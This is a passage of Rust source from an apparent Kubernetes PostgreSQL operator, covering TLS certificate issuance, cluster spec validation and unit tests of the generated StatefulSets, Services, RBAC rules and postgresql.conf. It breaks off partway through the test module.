    let not_after = annotation(build::TLS_NOT_AFTER_ANNOTATION).parse().ok();
    let same_ca = current
        .and_then(|s| crate::server::secret_text(s, "ca.crt"))
        .as_deref()
        == Some(bundle.as_str());
    if same_ca
        && !tls::needs_renewal(
            not_after,
            &annotation(build::TLS_NAMES_ANNOTATION),
            names,
            today,
        )
    {
        return Ok(());
    }
    let (server, not_after) = tls::server(
        &cluster.name_any(),
        authority.generation,
        &authority.signing.key_pem,
        names,
        today,
    )
    .map_err(|e| Error::Certificate(format!("issuing the certificate of {what} failed: {e}")))?;
    children
        .apply(build::tls_secret(
            cluster, secret, &server, &bundle, not_after, names,
        ))
        .await?;
    ctx.recorder
        .normal(
            cluster,
            "CertificateIssued",
            "IssueCertificate",
            format!(
                "server certificate for {what} issued by its CA (#{}), valid until {not_after}",
                authority.generation
            ),
        )
        .await;
    Ok(())
}

/// The password in Secret `name` if it exists and is this cluster's, else a new one.
pub(super) async fn existing_password(
    secrets: &Api<Secret>,
    cluster: &PostgresCluster,
    name: &str,
) -> Result<Password, Error> {
    let existing = secrets.get_opt(name).await.map_err(|source| Error::Read {
        what: format!("Secret {name}"),
        source,
    })?;
    crate::ownership::ensure_ours(
        existing.as_ref(),
        cluster,
        Some((build::CLUSTER_LABEL, cluster.name_any().as_str())),
    )?;
    Ok(existing
        .as_ref()
        .and_then(crate::server::password_of)
        .unwrap_or_else(Password::generate))
}

/// Checks in code what the schema checks at admission, and the values of known parameters
/// ([`crate::parameters::check`]), before anything is written.
///
/// # Errors
/// [`Error::InvalidSpec`] or [`Error::InvalidParameters`] (permanent: nothing is retried, and
/// nothing rolls out, until the spec changes).
pub fn validate(cluster: &PostgresCluster) -> Result<(), Error> {
    let spec = &cluster.spec;
    if !(1..=9).contains(&spec.instances) {
        return Err(Error::InvalidSpec(format!(
            "instances must be between 1 and 9, not {}",
            spec.instances
        )));
    }
    if !(13..=18).contains(&spec.version) {
        return Err(Error::InvalidSpec(format!(
            "version must be a PostgreSQL major version from 13 to 18, not {}",
            spec.version
        )));
    }
    for (key, value) in &spec.parameters {
        ident::validate(Kind::Parameter, key).map_err(|e| Error::InvalidSpec(e.to_string()))?;
        if value.chars().any(char::is_control) {
            return Err(Error::InvalidParameters(format!(
                "the value of {key} contains a control character (a newline?), which postgresql.conf cannot hold; no instance was restarted"
            )));
        }
    }
    crate::parameters::check(spec.version, &spec.parameters).map_err(|problems| {
        Error::InvalidParameters(format!(
            "{problems}; nothing was rolled out: the instances keep the last valid configuration"
        ))
    })?;
    connection_slots(spec.version, &spec.parameters).map_err(Error::InvalidParameters)?;
    if let Some(n) = spec
        .synchronous_replicas
        .filter(|n| !(1..spec.instances).contains(n))
    {
        return Err(Error::InvalidSpec(format!(
            "synchronousReplicas must be between 1 and instances - 1 ({}), not {n}",
            spec.instances - 1
        )));
    }
    if let Some(schedule) = spec.backup.as_ref().and_then(|b| b.schedule.as_deref()) {
        backup::parse_schedule(schedule).map_err(Error::InvalidSpec)?;
    }
    for (field, store) in object_stores(spec) {
        let Some(path) = store.map(|s| s.path.as_str()) else {
            continue;
        };
        if path.starts_with('/')
            || path.contains("//")
            || path.split('/').any(|s| s == "." || s == "..")
        {
            return Err(Error::InvalidSpec(format!(
                "{field}.path {path:?} must be relative, without '.' or '..' segments or '//'"
            )));
        }
    }
    if let Some(time) = spec
        .bootstrap
        .as_ref()
        .and_then(|b| b.recovery.target_time.as_deref())
    {
        time.parse::<jiff::Timestamp>().map_err(|e| {
            Error::InvalidSpec(format!(
                "spec.bootstrap.recovery.targetTime {time:?} is not an RFC 3339 time: {e}"
            ))
        })?;
    }
    if let (Some(backup), Some(bootstrap)) = (&spec.backup, &spec.bootstrap) {
        let (own, source) = (&backup.object_store, &bootstrap.recovery.object_store);
        if own.same_place(source) {
            return Err(Error::InvalidSpec(format!(
                "spec.backup.objectStore is the recovery source ({}): a restored cluster must archive to another path, or it would mix its WAL with its source's",
                own.url()
            )));
        }
    }
    if let Some(replica) = &spec.replica {
        if spec.bootstrap.is_some() {
            return Err(Error::InvalidSpec(
                "spec.replica: a standby cluster bootstraps from its source; remove spec.bootstrap"
                    .into(),
            ));
        }
        if let Some(own) = spec
            .backup
            .as_ref()
            .map(|b| &b.object_store)
            .filter(|own| own.same_place(&replica.source))
        {
            return Err(Error::InvalidSpec(format!(
                "spec.replica.source: a cluster cannot follow its own object store ({} is its spec.backup.objectStore)",
                own.url()
            )));
        }
    }
    if cluster.name_any().len() > 47 {
        return Err(Error::InvalidSpec(
            "metadata.name must be at most 47 characters".into(),
        ));
    }
    Ok(())
}

/// Refuses `max_connections` that leave no slot for clients once the superuser's and the
/// instance manager's are reserved: PostgreSQL would not start ("superuser_reserved_connections
/// plus reserved_connections must be less than max_connections"). Values that are not plain
/// integers are left to PostgreSQL.
fn connection_slots(version: i32, parameters: &BTreeMap<String, String>) -> Result<(), String> {
    let int = |key: &str| {
        parameters
            .get(key)
            .and_then(|v| v.trim().parse::<i64>().ok())
    };
    let Some(max) = int("max_connections") else {
        return Ok(());
    };
    let superuser = int("superuser_reserved_connections").unwrap_or(3);
    let reserved = int("reserved_connections").unwrap_or(if version >= 16 {
        i64::from(steward_database_api::contract::RESERVED_CONNECTIONS)
    } else {
        0
    });
    if max <= superuser + reserved {
        return Err(format!(
            "max_connections ({max}) must be more than superuser_reserved_connections ({superuser}) plus reserved_connections ({reserved}, kept for the instance manager's rewinds and switchovers from PostgreSQL 16 on), or PostgreSQL does not start; no instance was restarted"
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use k8s_openapi::apimachinery::pkg::api::resource::Quantity;
    use kube::Resource;

    use super::build::*;
    use super::*;
    use crate::crd::{DeletionPolicy, PostgresClusterSpec, StorageSpec};

    /// The CA Secret holds the whole authority (read back equal in every phase), and a
    /// Secret from before rotations (`ca.crt`, `ca.key`) reads as generation 0, stable.
    #[test]
    fn the_ca_secret_holds_every_phase_of_a_rotation() {
        use chrono::TimeZone;
        let c = cluster("pg");
        let t0 = chrono::Utc.with_ymd_and_hms(2026, 12, 1, 0, 0, 0).unwrap();
        let today = t0.date_naive();
        let first = tls::Authority::first(
            tls::new_ca("pg", 0, today).unwrap(),
            tls::ca_until(today),
            t0,
        );
        let trusting = first
            .after(tls::Rotation::Start, "pg", Some("r1"), t0)
            .unwrap();
        let serving = trusting
            .after(tls::Rotation::Serve, "pg", Some("r1"), t0)
            .unwrap();
        for a in [&first, &trusting, &serving] {
            let secret = ca_secret(&c, a);
            assert_eq!(authority_of(&secret).as_ref(), Some(a), "{:?}", a.phase);
            let bundle = &secret.data.as_ref().unwrap()["ca.crt"].0;
            assert_eq!(bundle, a.bundle().as_bytes());
        }
        assert_eq!(
            trusting.bundle().matches("BEGIN CERTIFICATE").count(),
            2,
            "both CAs trusted while rotating"
        );
        let mut legacy = ca_secret(&c, &first);
        legacy.metadata.annotations = None;
        legacy.data.as_mut().unwrap().remove("signing.crt");
        legacy.metadata.creation_timestamp =
            Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(
                "2026-12-01T00:00:00Z".parse().unwrap(),
            ));
        let read = authority_of(&legacy).unwrap();
        assert_eq!(
            (read.generation, read.phase, read.signing_until, read.since),
            (0, tls::CaPhase::Stable, tls::ca_until(today), t0)
        );
        assert_eq!(read.signing, first.signing);
    }

    /// A test fixture: `cluster("pg").instances(3).version(16)`.
    pub(super) fn cluster(name: &str) -> PostgresCluster {
        let mut c = PostgresCluster::new(
            name,
            PostgresClusterSpec {
                instances: 3,
                version: 16,
                image: None,
                image_pull_policy: None,
                storage: StorageSpec {
                    size: Quantity("1Gi".into()),
                    storage_class_name: Some("fast".into()),
                },
                resources: None,
                parameters: BTreeMap::from([("max_connections".to_string(), "200".to_string())]),
                synchronous_replicas: None,
                deletion_policy: DeletionPolicy::Retain,
                backup: None,
                bootstrap: None,
                placement: None,
                pooler: None,
                replica: None,
                monitoring: None,
            },
        );
        c.meta_mut().namespace = Some("ns".into());
        c.meta_mut().uid = Some("uid-1".into());
        c
    }

    fn store(path: &str) -> crate::crd::ObjectStore {
        crate::crd::ObjectStore {
            endpoint: "http://s3.example:9000".into(),
            bucket: "backups".into(),
            path: path.into(),
            region: None,
            credentials_secret: "s3-credentials".into(),
        }
    }

    #[test]
    fn a_backed_up_cluster_archives_every_wal_file_to_its_store_with_the_secrets_credentials() {
        let mut c = cluster("pg");
        assert!(!render_parameters(&c.spec.parameters, None, false).contains("archive"));
        assert!(backup_env(&c).is_empty());
        c.spec.backup = Some(crate::crd::ClusterBackup {
            object_store: store("prod/pg"),
            schedule: Some("@daily".into()),
            keep: Some(3),
        });
        let conf = config_map(&c).data.unwrap()["postgresql.conf"].clone();
        assert!(conf.contains("archive_mode = on\n"), "{conf}");
        assert!(
            conf.contains("archive_command = '/steward/bin/steward-pg-instance wal-push %p %f'\n"),
            "{conf}"
        );
        assert!(
            conf.find("archive_timeout").unwrap() < conf.find("max_connections").unwrap(),
            "the user's parameters come after (and win): {conf}"
        );
        let env = backup_env(&c);
        let value = |name: &str| {
            env.iter()
                .find(|e| e.name == name)
                .map(|e| (e.value.clone(), e.value_from.clone()))
                .unwrap_or_else(|| panic!("{name} missing from {env:?}"))
        };
        assert_eq!(
            value("STEWARD_BACKUP_ENDPOINT").0.as_deref(),
            Some("http://s3.example:9000")
        );
        assert_eq!(value("STEWARD_BACKUP_PATH").0.as_deref(), Some("prod/pg"));
        assert_eq!(
            value("STEWARD_BACKUP_REGION").0.as_deref(),
            Some("us-east-1")
        );
        assert_eq!(value("STEWARD_BACKUP_KEEP").0.as_deref(), Some("3"));
        let secret = value("STEWARD_BACKUP_SECRET_ACCESS_KEY")
            .1
            .and_then(|v| v.secret_key_ref)
            .unwrap();
        assert_eq!(
            (secret.name.as_str(), secret.key.as_str()),
            ("s3-credentials", "secretAccessKey")
        );
        let sts = statefulset(&c, "hash", "steward/database-operator:test");
        let pod_env = sts.spec.template.spec.unwrap().containers[0]
            .env
            .clone()
            .unwrap();
        assert!(pod_env.iter().any(|e| e.name == "STEWARD_BACKUP_BUCKET"));
        // Backing up rolls the instances (archive_mode needs a restart).
        assert_ne!(
            config_hash(&config_map(&c)),
            config_hash(&config_map(&cluster("pg")))
        );
    }

    #[test]
    fn a_queries_config_map_is_mounted_optional_where_the_instances_read_it() {
        let mut c = cluster("pg");
        let plain = statefulset(&c, "hash", "op:1").spec.template.spec.unwrap();
        c.spec.monitoring = Some(crate::crd::Monitoring {
            queries_config_map: Some("pg-metrics".into()),
        });
        let pod = statefulset(&c, "hash", "op:1").spec.template.spec.unwrap();
        let volumes = pod.volumes.unwrap();
        assert_eq!(volumes.len(), plain.volumes.unwrap().len() + 1);
        let source = volumes
            .iter()
            .find_map(|v| v.config_map.clone().filter(|m| m.name == "pg-metrics"))
            .unwrap();
        // A missing ConfigMap must not keep PostgreSQL from starting.
        assert_eq!(source.optional, Some(true));
        let mounts = pod.containers[0].volume_mounts.clone().unwrap();
        assert!(mounts.iter().any(|m| m.mount_path
            == steward_database_api::monitoring::QUERIES_DIR
            && m.read_only == Some(true)));
    }

    #[test]
    fn a_restored_cluster_reads_its_source_and_must_archive_elsewhere() {
        let mut c = cluster("pg");
        c.spec.bootstrap = Some(crate::crd::Bootstrap {
            recovery: crate::crd::Recovery {
                object_store: store("prod/pg"),
                target_time: Some("2026-12-02T03:04:05Z".into()),
            },
        });
        let env = backup_env(&c);
        let names: Vec<&str> = env.iter().map(|e| e.name.as_str()).collect();
        assert!(names.contains(&"STEWARD_RECOVERY_ENDPOINT"), "{names:?}");
        assert!(names.contains(&"STEWARD_RECOVERY_TARGET_TIME"), "{names:?}");
        assert!(
            !names.iter().any(|n| n.starts_with("STEWARD_BACKUP")),
            "{names:?}"
        );
        assert!(validate(&c).is_ok());
        c.spec.backup = Some(crate::crd::ClusterBackup {
            object_store: store("prod/pg/"),
            schedule: None,
            keep: None,
        });
        let err = validate(&c).unwrap_err().to_string();
        assert!(err.contains("another path"), "{err}");
        c.spec.backup = Some(crate::crd::ClusterBackup {
            object_store: store("prod/pg-restored"),
            schedule: Some("every day".into()),
            keep: None,
        });
        let err = validate(&c).unwrap_err().to_string();
        assert!(err.contains("spec.backup.schedule"), "{err}");
    }

    fn standby(c: &mut PostgresCluster, enabled: bool) {
        c.spec.replica = Some(crate::crd::ReplicaSpec {
            enabled,
            source: crate::crd::ObjectStore {
                credentials_secret: "source-s3".into(),
                ..store("prod/orders")
            },
            promotion_token: None,
        });
    }

    /// The instances learn the source like a recovery's, credentials from its Secret; not
    /// whether to follow it (they read `spec.replica.enabled` from the cluster), so a
    /// promotion rolls no pod.
    #[test]
    fn a_standby_hands_its_source_to_the_instances_and_its_promotion_rolls_nothing() {
        let mut c = cluster("pg");
        standby(&mut c, true);
        let env = backup_env(&c);
        let value = |name: &str| env.iter().find(|e| e.name == name).cloned();
        for field in steward_database_api::contract::STORE_FIELDS {
            let name = format!("STEWARD_REPLICA_SOURCE_{field}");
            assert!(value(&name).is_some(), "{name} missing from {env:?}");
        }
        assert_eq!(
            value("STEWARD_REPLICA_SOURCE_PATH")
                .and_then(|e| e.value)
                .as_deref(),
            Some("prod/orders")
        );
        let key = value("STEWARD_REPLICA_SOURCE_ACCESS_KEY_ID")
            .and_then(|e| e.value_from?.secret_key_ref)
            .unwrap();
        assert_eq!(
            (key.name.as_str(), key.key.as_str()),
            ("source-s3", "accessKeyId")
        );
        assert!(
            !env.iter()
                .any(|e| e.name.starts_with("STEWARD_RECOVERY") || e.name.contains("ENABLED")),
            "{env:?}"
        );
        let pod_env = statefulset(&c, "hash", "op:1")
            .spec
            .template
            .spec
            .unwrap()
            .containers[0]
            .env
            .clone()
            .unwrap();
        assert!(
            pod_env
                .iter()
                .any(|e| e.name == "STEWARD_REPLICA_SOURCE_BUCKET")
        );
        let following = template_hash(&statefulset(&c, "hash", "op:1"));
        standby(&mut c, false);
        assert_eq!(
            following,
            template_hash(&statefulset(&c, "hash", "op:1")),
            "the promotion must not replace the pods"
        );
        assert_eq!(
            config_hash(&config_map(&c)),
            config_hash(&config_map(&cluster("pg")))
        );
    }

    #[test]
    fn a_standby_bootstraps_from_its_source_only_and_never_follows_itself() {
        let mut c = cluster("pg");
        standby(&mut c, true);
        assert!(validate(&c).is_ok());
        c.spec.backup = Some(crate::crd::ClusterBackup {
            object_store: store("standby/orders"),
            schedule: Some("@daily".into()),
            keep: None,
        });
        assert!(
            validate(&c).is_ok(),
            "a standby may archive elsewhere once promoted"
        );
        let mut restored = c.clone();
        restored.spec.bootstrap = Some(crate::crd::Bootstrap {
            recovery: crate::crd::Recovery {
                object_store: store("prod/orders"),
                target_time: None,
            },
        });
        assert!(
            matches!(validate(&restored), Err(Error::InvalidSpec(m)) if m == "spec.replica: a standby cluster bootstraps from its source; remove spec.bootstrap")
        );
        for own in ["prod/orders", "prod/orders/"] {
            let mut itself = c.clone();
            itself.spec.backup.as_mut().unwrap().object_store = store(own);
            assert!(
                matches!(validate(&itself), Err(Error::InvalidSpec(m)) if m.starts_with("spec.replica.source: a cluster cannot follow its own object store (s3://backups/prod/orders ")),
                "{own}"
            );
        }
        // The same path of another endpoint is another store.
        let mut elsewhere = c.clone();
        elsewhere.spec.backup.as_mut().unwrap().object_store = crate::crd::ObjectStore {
            endpoint: "https://s3.other.example".into(),
            ..store("prod/orders")
        };
        assert!(validate(&elsewhere).is_ok());
        let mut climbing = cluster("pg");
        standby(&mut climbing, true);
        climbing.spec.replica.as_mut().unwrap().source.path = "../orders".into();
        assert!(
            matches!(validate(&climbing), Err(Error::InvalidSpec(m)) if m.starts_with("spec.replica.source.path")),
        );
    }

    /// Every store's credentials Secret is checked before a pod needs it, named by the field
    /// a user would fix.
    #[test]
    fn the_credentials_of_every_object_store_are_checked_under_their_field() {
        let mut c = cluster("pg");
        assert!(object_stores(&c.spec).iter().all(|(_, s)| s.is_none()));
        standby(&mut c, true);
        c.spec.backup = Some(crate::crd::ClusterBackup {
            object_store: store("standby/orders"),
            schedule: None,
            keep: None,
        });
        let named: Vec<(&str, &str)> = object_stores(&c.spec)
            .into_iter()
            .filter_map(|(field, s)| Some((field, s?.credentials_secret.as_str())))
            .collect();
        assert_eq!(
            named,
            [
                ("spec.backup.objectStore", "s3-credentials"),
                ("spec.replica.source", "source-s3")
            ]
        );
    }

    #[test]
    fn services_select_primary_and_replicas() {
        let c = cluster("pg");
        let rw = rw_service(&c);
        let ro = ro_service(&c);
        let hl = headless_service(&c);
        assert_eq!(rw.metadata.name.as_deref(), Some("pg-rw"));
        assert_eq!(
            rw.spec.as_ref().unwrap().selector.as_ref().unwrap()[ROLE_LABEL],
            "primary"
        );
        assert_eq!(
            ro.spec.as_ref().unwrap().selector.as_ref().unwrap()[ROLE_LABEL],
            "replica"
        );
        assert_eq!(
            hl.spec.as_ref().unwrap().cluster_ip.as_deref(),
            Some("None")
        );
        assert!(
            !hl.spec
                .as_ref()
                .unwrap()
                .selector
                .as_ref()
                .unwrap()
                .contains_key(ROLE_LABEL)
        );
        assert_eq!(rw.metadata.namespace.as_deref(), Some("ns"));
    }

    #[test]
    fn instances_prefer_nodes_of_their_own_unless_the_placement_says_otherwise() {
        let anti = |c: &PostgresCluster| {
            statefulset(c, "abc", "op:1")
                .spec
                .template
                .spec
                .unwrap()
                .affinity
                .map(|a| a.pod_anti_affinity.unwrap())
        };
        let c = cluster("pg");
        let preferred = anti(&c).unwrap();
        let term = &preferred
            .preferred_during_scheduling_ignored_during_execution
            .unwrap()[0];
        assert_eq!(
            term.pod_affinity_term.topology_key,
            "kubernetes.io/hostname"
        );
        assert_eq!(
            term.pod_affinity_term
                .label_selector
                .as_ref()
                .unwrap()
                .match_labels
                .as_ref()
                .unwrap()[CLUSTER_LABEL],
            "pg",
            "only this cluster's instances repel each other"
        );
        assert!(
            preferred
                .required_during_scheduling_ignored_during_execution
                .is_none()
        );

        let mut zones = cluster("pg");
        zones.spec.placement = Some(crate::crd::Placement {
            spread: crate::crd::Spread::Required,
            topology_key: Some("topology.kubernetes.io/zone".into()),
        });
        let required = anti(&zones).unwrap();
        assert!(
            required
                .preferred_during_scheduling_ignored_during_execution
                .is_none()
        );
        assert_eq!(
            required
                .required_during_scheduling_ignored_during_execution
                .unwrap()[0]
                .topology_key,
            "topology.kubernetes.io/zone"
        );

        let mut none = cluster("pg");
        none.spec.placement = Some(crate::crd::Placement {
            spread: crate::crd::Spread::None,
            topology_key: None,
        });
        assert!(anti(&none).is_none());
    }

    #[test]
    fn statefulset_updates_on_delete_with_storage_and_retention() {
        let c = cluster("pg");
        let sts = statefulset(&c, "abc", "op:1");
        let spec = &sts.spec;
        assert_eq!(spec.replicas, Some(3));
        assert_eq!(spec.service_name.as_deref(), Some("pg-hl"));
        assert_eq!(
            spec.update_strategy.as_ref().unwrap().type_.as_deref(),
            Some("OnDelete"),
            "the operator replaces pods itself: replicas, switchover, then the old primary"
        );
        assert_eq!(
            spec.persistent_volume_claim_retention_policy
                .as_ref()
                .unwrap()
                .when_deleted
                .as_deref(),
            Some("Retain")
        );
        let claim = &spec.volume_claim_templates.as_ref().unwrap()[0];
        assert_eq!(
            claim.spec.as_ref().unwrap().storage_class_name.as_deref(),
            Some("fast")
        );
        let pod = spec.template.spec.as_ref().unwrap();
        assert_eq!(pod.containers[0].image.as_deref(), Some("postgres:16"));
        let labels = spec
            .template
            .metadata
            .as_ref()
            .unwrap()
            .labels
            .as_ref()
            .unwrap();
        assert_eq!(labels[VERSION_LABEL], "16");
        let env = pod.containers[0].env.as_ref().unwrap();
        let pw = env.iter().find(|e| e.name == "POSTGRES_PASSWORD").unwrap();
        assert!(
            pw.value.is_none(),
            "the password comes from the Secret, never inline"
        );
        assert_eq!(
            pw.value_from
                .as_ref()
                .unwrap()
                .secret_key_ref
                .as_ref()
                .unwrap()
                .name,
            "pg-superuser"
        );

        let mut d = cluster("pg");
        d.spec.deletion_policy = DeletionPolicy::Delete;
        let sts = statefulset(&d, "abc", "op:1");
        assert_eq!(
            sts.spec
                .persistent_volume_claim_retention_policy
                .unwrap()
                .when_deleted
                .as_deref(),
            Some("Delete")
        );
        assert!(superuser_secret_owned(&d));
        assert!(!superuser_secret_owned(&c));
    }

    #[test]
    fn template_hash_tracks_version_and_config() {
        let c = cluster("pg");
        let a = template_hash(&statefulset(&c, "h1", "op:1"));
        assert_ne!(
            a,
            template_hash(&statefulset(&c, "h2", "op:1")),
            "config change rolls"
        );
        let mut v = cluster("pg");
        v.spec.version = 17;
        assert_ne!(
            a,
            template_hash(&statefulset(&v, "h1", "op:1")),
            "version change rolls"
        );
    }

    #[test]
    fn config_renders_quoted_parameters_and_hash_changes() {
        let mut c = cluster("pg");
        c.spec
            .parameters
            .insert("search_path".into(), "a', b".into());
        let cm = config_map(&c);
        let conf = &cm.data.as_ref().unwrap()["postgresql.conf"];
        assert!(conf.contains("max_connections = '200'\n"), "{conf}");
        assert!(conf.contains("search_path = 'a'', b'\n"), "{conf}");
        // The instance manager's defaults first, so a parameter overrides them.
        let defaults = conf
            .find("include_if_exists = '/steward/run/defaults.conf'\n")
            .unwrap();
        assert!(defaults < conf.find("max_connections").unwrap(), "{conf}");
        assert!(conf.contains("hba_file = '/etc/steward/pg_hba.conf'"));
        let h1 = config_hash(&cm);
        c.spec
            .parameters
            .insert("max_connections".into(), "300".into());
        assert_ne!(h1, config_hash(&config_map(&c)));
    }

    #[test]
    fn conf_values_use_the_config_files_quoting() {
        assert_eq!(conf_quote("abc"), "'abc'");
        assert_eq!(
            conf_quote("a\\b"),
            "'a\\\\b'",
            "a backslash is doubled, no E prefix"
        );
        assert_eq!(conf_quote("it's"), "'it''s'");
        assert_eq!(conf_quote("a\nb"), "'a b'");
        let mut c = cluster("pg");
        c.spec
            .parameters
            .insert("log_line_prefix".into(), "a\\b".into());
        let conf = render_parameters(&c.spec.parameters, None, false);
        assert!(conf.contains("log_line_prefix = 'a\\\\b'\n"), "{conf}");
        assert!(validate(&c).is_ok());
        c.spec
            .parameters
            .insert("log_line_prefix".into(), "a\nb".into());
        assert!(
            matches!(validate(&c), Err(Error::InvalidParameters(m)) if m.contains("log_line_prefix"))
        );
    }

    #[test]
    fn max_connections_must_leave_slots_beyond_the_reserved_ones() {
        let mut c = cluster("pg");
        c.spec.version = 17;
        c.spec
            .parameters
            .insert("max_connections".into(), "6".into());
        assert!(
            matches!(validate(&c), Err(Error::InvalidParameters(m)) if m.contains("max_connections (6)") && m.contains("reserved_connections (3"))
        );
        c.spec
            .parameters
            .insert("max_connections".into(), "7".into());
        assert!(validate(&c).is_ok());
        // PostgreSQL 15 has no reserved_connections.
        c.spec.version = 15;
        c.spec
            .parameters
            .insert("max_connections".into(), "4".into());
        assert!(validate(&c).is_ok());
        c.spec
            .parameters
            .insert("superuser_reserved_connections".into(), "4".into());
        assert!(matches!(validate(&c), Err(Error::InvalidParameters(_))));
        c.spec.version = 17;
        c.spec.parameters = BTreeMap::from([
            ("max_connections".into(), "20".into()),
            ("reserved_connections".into(), "17".into()),
        ]);
        assert!(matches!(validate(&c), Err(Error::InvalidParameters(_))));
        c.spec
            .parameters
            .insert("max_connections".into(), "a lot".into());
        assert!(
            matches!(validate(&c), Err(Error::InvalidParameters(m)) if m.contains("max_connections = 'a lot' is not valid")),
            "not an integer: refused with the other values"
        );
    }

    #[test]
    fn pods_run_the_instance_manager_copied_from_the_operators_image() {
        let c = cluster("pg");
        let sts = statefulset(&c, "abc", "steward/database-operator:9");
        let pod = sts.spec.template.spec.as_ref().unwrap();
        let init = &pod.init_containers.as_ref().unwrap()[0];
        assert_eq!(init.image.as_deref(), Some("steward/database-operator:9"));
        assert_eq!(
            init.command.as_ref().unwrap(),
            &[INSTANCE_BINARY_IN_IMAGE, "copy", "/steward/bin"]
        );
        let pg = &pod.containers[0];
        assert_eq!(pg.image.as_deref(), Some("postgres:16"));
        assert_eq!(
            pg.command.as_ref().unwrap(),
            &["/steward/bin/steward-pg-instance", "run"]
        );
        assert_eq!(pod.service_account_name.as_deref(), Some("pg-instance"));
        let tls = pod
            .volumes
            .as_ref()
            .unwrap()
            .iter()
            .find(|v| v.name == "tls")
            .and_then(|v| v.secret.as_ref())
            .unwrap();
        assert_eq!(tls.secret_name.as_deref(), Some("pg-tls"));
        assert_eq!(
            tls.default_mode,
            Some(0o640),
            "PostgreSQL refuses a key others can read"
        );
        let env = pg.env.as_ref().unwrap();
        let from_secret = |name: &str| {
            env.iter()
                .find(|e| e.name == name)
                .and_then(|e| e.value_from.as_ref()?.secret_key_ref.as_ref())
                .map(|s| s.name.clone())
        };
        assert_eq!(
            from_secret("REPLICATION_PASSWORD").as_deref(),
            Some("pg-replication")
        );
        let probe = |p: &Option<k8s_openapi::api::core::v1::Probe>| {
            p.as_ref().unwrap().http_get.as_ref().unwrap().path.clone()
        };
        assert_eq!(probe(&pg.readiness_probe).as_deref(), Some("/readyz"));
        assert_eq!(probe(&pg.liveness_probe).as_deref(), Some("/healthz"));
    }

    #[test]
    fn instance_managers_may_touch_only_their_lease_and_pods() {
        let c = cluster("pg");
        let role = instance_role(&c);
        let rules = role.rules.unwrap();
        let lease = rules
            .iter()
            .find(|r| r.verbs.contains(&"update".to_string()))
            .unwrap();
        assert_eq!(
            lease.resources.as_deref(),
            Some(&["leases".to_string()][..])
        );
        assert_eq!(
            lease.resource_names.as_deref(),
            Some(&["pg-primary".to_string()][..])
        );
        let patch = rules
            .iter()
            .find(|r| {
                r.verbs.contains(&"patch".to_string()) && r.resources.as_ref().unwrap()[0] == "pods"
            })
            .unwrap();
        assert_eq!(
            patch.resource_names.as_ref().unwrap(),
            &["pg-0", "pg-1", "pg-2"]
        );
        assert!(
            !rules
                .iter()
                .any(|r| r.resources.as_ref().unwrap().iter().any(|x| x == "secrets")),
            "no Secret access: passwords come as environment variables"
        );
        // Their own cluster, read only (a standby's leader follows spec.replica.enabled).
        let own = rules
            .iter()
            .find(|r| r.resources.as_ref().unwrap()[0] == "postgresclusters")
            .unwrap();
        assert_eq!(
            (
                own.api_groups.as_deref(),
                own.verbs.as_slice(),
                own.resource_names.as_deref()
            ),
            (
                Some(&["database.steward.dev".to_string()][..]),
                &["get".to_string()][..],
                Some(&["pg".to_string()][..])
            )
        );
        let binding = instance_role_binding(&c);
        assert_eq!(binding.subjects.unwrap()[0].name, "pg-instance");
        assert_eq!(binding.role_ref.name, "pg-instance");
    }

    #[test]
    fn config_includes_the_instance_file_last_and_replication_is_the_dedicated_role_over_tls() {
        let cm = config_map(&cluster("pg"));
        let data = cm.data.unwrap();
        let conf = &data["postgresql.conf"];
        assert!(
            conf.trim_end()
                .ends_with("include_if_exists = '/steward/run/instance.conf'"),
            "{conf}"
        );
        let hba = &data["pg_hba.conf"];
        assert!(hba.contains("hostssl replication     steward_replication 0.0.0.0/0"));
        assert!(
            !hba.contains("host    replication") && !hba.contains("replication     all"),
            "replication only over TLS, only as the replication role: {hba}"
        );
        let reject = hba
            .find("hostnossl all           steward_replication 0.0.0.0/0           reject")
            .unwrap();
        assert!(
            reject
                < hba
                    .find("host    all             all             0.0.0.0/0")
                    .unwrap(),
            "the replication role needs TLS for any connection: {hba}"
        );
        assert!(
            conf.contains("ssl = on\n")
                && conf.contains("ssl_cert_file = '/etc/steward-tls/tls.crt'")
        );
        assert!(!data.contains_key("bootstrap.sh"));
    }

    #[test]
    fn superuser_secret_and_pdb() {
        let c = cluster("pg");
        let s = superuser_secret(&c, &Password::from_existing("pw".into()), "CA");
        assert_eq!(
            s.data.as_ref().unwrap()["ca.crt"].0,
            b"CA",
            "clients verify with it"
        );
        assert_eq!(s.metadata.name.as_deref(), Some("pg-superuser"));
        assert_eq!(s.data.as_ref().unwrap()["password"].0, b"pw");
        use k8s_openapi::apimachinery::pkg::util::intstr::IntOrString;
        let role = |pdb: &k8s_openapi::api::policy::v1::PodDisruptionBudget| {
            let selector = pdb.spec.as_ref().unwrap().selector.clone().unwrap();
            let e = &selector.match_expressions.unwrap()[0];
            (e.key.clone(), e.operator.clone(), e.values.clone().unwrap())
        };
        // The replicas one at a time (3 instances: 2 replicas, 1 kept); the primary not at all
        // (a drain switches over first); no pod under both (the Eviction API refuses a pod with
        // two budgets). Numbers of pods: a `maxUnavailable` budget would count every instance
        // of the StatefulSet as expected.
        let replicas = pod_disruption_budget(&c);
        assert_eq!(
            replicas.spec.as_ref().unwrap().min_available,
            Some(IntOrString::Int(1))
        );
        assert_eq!(replicas.spec.as_ref().unwrap().max_unavailable, None);
        assert_eq!(
            role(&replicas),
            (
                ROLE_LABEL.to_string(),
                "NotIn".to_string(),
                vec!["primary".to_string()]
            )
        );
        let primary = build::primary_disruption_budget(&c);
        assert_eq!(primary.metadata.name.as_deref(), Some("pg-primary"));
        assert_eq!(
            primary.spec.as_ref().unwrap().min_available,
            Some(IntOrString::Int(1))
        );
        assert_eq!(
            role(&primary),
            (
                ROLE_LABEL.to_string(),
                "In".to_string(),
                vec!["primary".to_string()]
            )
        );
        let mut single = cluster("pg");
        single.spec.instances = 1;
        assert_eq!(
            build::primary_disruption_budget(&single)
                .spec
                .unwrap()
                .min_available,
            Some(IntOrString::Int(0)),
            "nothing to switch over to: a drain may evict a single instance"
        );
    }

    #[test]
    fn synchronous_replication_waits_for_any_n_replicas_and_stays_below_instances() {
        let mut c = cluster("pg");
        c.spec.synchronous_replicas = Some(2);
        let conf = config_map(&c).data.unwrap()["postgresql.conf"].clone();
        assert!(
            conf.contains("synchronous_standby_names = 'ANY 2 (*)'\n"),
            "{conf}"
        );
        assert!(validate(&c).is_ok());
        c.spec.synchronous_replicas = Some(3);
        assert!(
            matches!(validate(&c), Err(Error::InvalidSpec(m)) if m.contains("synchronousReplicas"))
        );
